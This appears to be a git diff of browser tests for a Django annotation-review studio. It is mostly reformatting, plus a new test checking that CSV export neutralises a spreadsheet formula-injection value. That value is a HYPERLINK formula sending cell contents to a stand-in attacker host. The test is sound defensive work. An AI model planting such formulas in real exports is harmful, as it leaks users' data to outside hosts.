@@ -15,21 +15,12 @@ from django.db import connections
 from PIL import Image
 
 from annotation.models import Annotation, AnnotationStatus
-from studio.permissions import GROUP_ROLES
 from tests.conftest import REPO, _worker_env, login
 from traces import actions as grammar
 from traces.models import Step, Trace
 from traces.services import screenshot_store
 
-pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
-
-
-@pytest.fixture(autouse=True)
-def role_groups(transactional_db):
-    from django.contrib.auth.models import Group
-
-    for role in GROUP_ROLES:
-        Group.objects.get_or_create(name=role.value)
+pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("role_groups")]
 
 
 def free_port() -> int:
@@ -42,10 +33,29 @@ def free_port() -> int:
 def asgi_server(transactional_db):
     """uvicorn serving studio.asgi on the test database (live_server is WSGI: no WebSockets)."""
     port = free_port()
-    log = open(REPO / "test-artifacts" / "uvicorn-review.log", "w") if (REPO / "test-artifacts").is_dir() else subprocess.DEVNULL
-    proc = subprocess.Popen([sys.executable, "-m", "uvicorn", "studio.asgi:application", "--host", "127.0.0.1",
-                             "--port", str(port), "--log-level", "warning"], cwd=REPO, env=_worker_env(),
-                            stdout=log, stderr=subprocess.STDOUT)
+    log = (
+        open(REPO / "test-artifacts" / "uvicorn-review.log", "w")
+        if (REPO / "test-artifacts").is_dir()
+        else subprocess.DEVNULL
+    )
+    proc = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "uvicorn",
+            "studio.asgi:application",
+            "--host",
+            "127.0.0.1",
+            "--port",
+            str(port),
+            "--log-level",
+            "warning",
+        ],
+        cwd=REPO,
+        env=_worker_env(),
+        stdout=log,
+        stderr=subprocess.STDOUT,
+    )
     deadline = time.monotonic() + 60
     while True:
         try:
@@ -54,7 +64,7 @@ def asgi_server(transactional_db):
         except OSError:
             if proc.poll() is not None or time.monotonic() > deadline:
                 proc.kill()
-                raise RuntimeError("uvicorn did not start")
+                raise RuntimeError("uvicorn did not start") from None
             time.sleep(0.2)
     yield f"http://127.0.0.1:{port}"
     proc.terminate()
@@ -75,20 +85,32 @@ def png(seed: int) -> bytes:
 
 @pytest.fixture
 def draft(project, annotator):
-    trace = Trace.objects.create(project=project, external_id="review-loop", instruction="Bookmark this page",
-                                 source="test", step_count=3)
+    trace = Trace.objects.create(
+        project=project, external_id="review-loop", instruction="Bookmark this page", source="test", step_count=3
+    )
     for i in range(1, 4):
         shot, _ = screenshot_store(data=png(i), name=f"s{i}.png")
-        Step.objects.create(trace=trace, index=i, screenshot=shot, thought=f"I will close the red tab {i}.",
-                            action_text=f"click(start_box='<|box_start|>({200 * i},{300})<|box_end|>')")
+        Step.objects.create(
+            trace=trace,
+            index=i,
+            screenshot=shot,
+            thought=f"I will close the red tab {i}.",
+            action_text=f"click(start_box='<|box_start|>({200 * i},{300})<|box_end|>')",
+        )
     corrected = grammar.parse_action("click(start_box='<|box_start|>(700,120)<|box_end|>')")
     reflection = grammar.parse_action("hotkey(key='ctrl shift t')")
     return Annotation.objects.create(
-        trace=trace, project=trace.project, annotator=annotator, verdict="error", tau=2, error_category="wrong element / grounding",
+        trace=trace,
+        project=trace.project,
+        annotator=annotator,
+        verdict="error",
+        tau=2,
+        error_category="wrong element / grounding",
         corrected_thought="I will click the bookmark star in the blue toolbar.",
         reflection_thought="I closed the tab by mistake; reopen it.",
         editor_state={"corrected": corrected.to_json(), "reflection": reflection.to_json()},
-        corrected_action=grammar.render_action(corrected), reflection_action=grammar.render_action(reflection),
+        corrected_action=grammar.render_action(corrected),
+        reflection_action=grammar.render_action(reflection),
         time_spent_s=42,
     )
 
@@ -143,8 +165,12 @@ def test_reject_fix_resubmit_accept_live(browser, asgi_server, project, annotato
     ann_page.goto(f"{base}/queue/")
     assert "The star is in the address bar" in ann_page.inner_text("body")
     version = Annotation.objects.get(pk=draft.pk).version
-    fixed = api(ann_page, f"/api/annotations/{draft.pk}/draft/", "PUT",
-                {"version": version, "corrected_thought": "I will click the bookmark star in the address bar."})
+    fixed = api(
+        ann_page,
+        f"/api/annotations/{draft.pk}/draft/",
+        "PUT",
+        {"version": version, "corrected_thought": "I will click the bookmark star in the address bar."},
+    )
     api(ann_page, f"/api/annotations/{draft.pk}/submit/", "POST", {"version": fixed["version"]})
     lead_page.wait_for_selector(row, timeout=15000)
 
@@ -155,7 +181,8 @@ def test_reject_fix_resubmit_accept_live(browser, asgi_server, project, annotato
     assert Annotation.objects.get(pk=draft.pk).status == AnnotationStatus.ACCEPTED
     lead_page.goto(f"{base}/reviews/{draft.pk}/")
     moves = lead_page.eval_on_selector_all(
-        "#history tr[data-kind='transition']", "rows => rows.map(r => r.dataset.from + '>' + r.dataset.to)")
+        "#history tr[data-kind='transition']", "rows => rows.map(r => r.dataset.from + '>' + r.dataset.to)"
+    )
     assert moves == ["draft>submitted", "submitted>rejected", "rejected>submitted", "submitted>accepted"]
     assert "The star is in the address bar" in lead_page.inner_text("#history")
     lead_page.screenshot(path=str(artifacts_dir / "review-history.png"), full_page=True)
@@ -164,7 +191,14 @@ def test_reject_fix_resubmit_accept_live(browser, asgi_server, project, annotato
     ann_ctx.close()
 
 
+FORMULA_CATEGORY = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+
+
 def test_dashboard_draws_charts_and_updates_live(browser, asgi_server, project, annotator, lead, draft, artifacts_dir):
+    project.error_categories = [*project.error_categories, FORMULA_CATEGORY]
+    project.save(update_fields=["error_categories"])
+    draft.error_category = FORMULA_CATEGORY
+    draft.save(update_fields=["error_category"])
     base = asgi_server
     page = browser.new_context(viewport={"width": 1600, "height": 1000}).new_page()
     errors = []
@@ -189,4 +223,9 @@ def test_dashboard_draws_charts_and_updates_live(browser, asgi_server, project, 
         page.click("[data-csv='median_time']")
     text = open(download.value.path()).read()
     assert text.splitlines()[0] == "annotator,median_seconds" and "ann,42" in text
+    # a category a lead typed as a formula is text in a spreadsheet (OWASP's apostrophe), not only quoted
+    with page.expect_download() as download:
+        page.click("[data-csv='error_categories']")
+    rows = open(download.value.path()).read().splitlines()
+    assert rows == ["category,count", f'"\'{FORMULA_CATEGORY.replace(chr(34), chr(34) * 2)}",1'], rows
     assert not errors, errors
